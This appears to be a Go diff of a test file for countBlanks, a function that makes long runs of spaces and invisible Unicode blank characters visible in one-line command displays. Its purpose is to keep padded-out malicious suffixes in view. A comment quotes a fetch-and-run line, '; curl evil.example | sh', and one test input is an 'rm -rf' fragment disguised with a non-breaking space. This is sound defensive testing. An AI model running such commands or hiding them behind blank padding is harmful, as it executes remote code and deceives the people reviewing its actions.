@@ -6,7 +6,7 @@ import (
 	"unicode/utf8"
 )
 
-// TestBlankRunsShownCounted: countSpaces keeps "; curl evil.example | sh"
+// TestBlankRunsShownCounted: countBlanks keeps "; curl evil.example | sh"
 // in view when a command is padded with hundreds of ASCII spaces (a
 // one-line title, shown alone by some ACP clients, or a narrow question).
 // Padding with any other character that renders as blank space — a
@@ -43,5 +43,23 @@ func TestBlankRunsShownCounted(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestCountBlanks: what a one-line field shows of each run of blanks.
+func TestCountBlanks(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{"npm test", "npm test"},
+		{"a   b", "a   b"},
+		{"a    b", "a ⟨4 spaces⟩ b"},
+		{"rm\u00A0-rf", "rm ⟨1 blank: U+00A0⟩ -rf"},
+		{"a \u3000\u3000 b", "a ⟨4 blanks: U+0020 U+3000⟩ b"},
+		{"x\u2800\u3164\u115F\u1160\uFFA0\u2003y", "x ⟨6 blanks: U+2800 U+3164 U+115F U+1160 …⟩ y"},
+		{"café ünïcode", "café ünïcode"},
+		{"", ""},
+	} {
+		if got := countBlanks(c.in); got != c.want {
+			t.Errorf("countBlanks(%q) = %q, want %q", c.in, got, c.want)
+		}
 	}
 }
